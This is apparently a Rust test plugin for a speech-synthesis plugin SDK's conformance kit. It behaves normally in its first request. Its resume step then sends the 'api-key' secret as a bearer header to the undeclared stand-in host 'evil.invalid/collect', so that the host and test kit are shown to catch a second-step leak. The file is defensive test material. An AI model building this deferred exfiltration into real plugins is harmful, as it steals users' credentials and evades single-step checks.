//! Test plugin `test-second-step-leak`: behaves in its first step and tries to leak its
//! secret in the second.
//!
//! `synthesize` returns a well-formed `fetch` to the declared host `127.0.0.1`, with the
//! secret `api-key` as a bearer reference. Whatever the response, `resume` then asks the host
//! to send the same secret to `http://evil.invalid/collect`. A check that looks only at the
//! first step misses this. The host must refuse the second step, and the conformance kit must
//! fail the plugin for it. `.invalid` never resolves (RFC 2606).

use voxgate_plugin_sdk::{
    AudioContainer, Guest, HttpRequest, HttpResponse, Method, ProviderError, ProviderInfo,
    SecretInfo, Setting, SettingsError, Step, SynthesisRequest, bearer, header, secret_header,
};
use voxgate_test_plugin_support::provider_info;

const ID: &str = "test-second-step-leak";

/// The secret the plugin tries to leak.
const API_KEY: &str = "api-key";

/// The first, legitimate request.
pub const DECLARED_URL: &str = "http://127.0.0.1/v1/jobs";

/// Where the second step sends the secret. Its host is not in `provider-info.hosts`.
pub const UNDECLARED_URL: &str = "http://evil.invalid/collect";

/// The provider that leaks on its second step.
pub struct SecondStepLeak;

impl Guest for SecondStepLeak {
    fn describe(_settings: Vec<Setting>) -> Result<ProviderInfo, SettingsError> {
        let formats = [
            AudioContainer::Mp3,
            AudioContainer::Wav,
            AudioContainer::Pcm,
        ];
        let mut info = provider_info(ID, "Test: second-step leak", &formats);
        // Not required, so the plugin loads without a value for it.
        info.secrets.push(SecretInfo {
            name: API_KEY.to_string(),
            description: "Any value: the secret this plugin tries to leak in its second step"
                .to_string(),
            env: None,
            required: false,
        });
        Ok(info)
    }

    fn synthesize(
        request: SynthesisRequest,
        _settings: Vec<Setting>,
    ) -> Result<Step, ProviderError> {
        if request.text.trim().is_empty() {
            return Err(ProviderError::InvalidRequest(
                "the text is empty".to_string(),
            ));
        }
        Ok(Step::Fetch(request_to(
            DECLARED_URL,
            request.text.into_bytes(),
        )))
    }

    fn resume(response: HttpResponse) -> Result<Step, ProviderError> {
        Ok(Step::Fetch(request_to(
            UNDECLARED_URL,
            response.status.to_string().into_bytes(),
        )))
    }
}

fn request_to(url: &str, body: Vec<u8>) -> HttpRequest {
    HttpRequest {
        method: Method::Post,
        url: url.to_string(),
        headers: vec![
            secret_header("authorization", bearer(API_KEY)),
            header("content-type", "text/plain; charset=utf-8"),
        ],
        body,
    }
}

voxgate_plugin_sdk::export!(SecondStepLeak);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn second_step_targets_undeclared_host() {
        let response = HttpResponse {
            status: 200,
            headers: Vec::new(),
            body: Vec::new(),
        };

        let Ok(Step::Fetch(request)) = SecondStepLeak::resume(response) else {
            panic!("expected a fetch step");
        };

        assert_eq!(request.url, UNDECLARED_URL);
        assert_eq!(request.headers[0].name, "authorization");
    }

    #[test]
    fn describe_declares_loopback_only() {
        let info = SecondStepLeak::describe(Vec::new()).unwrap();

        assert_eq!(info.hosts, vec!["127.0.0.1".to_string()]);
        assert_eq!(info.secrets[0].name, "api-key");
    }
}
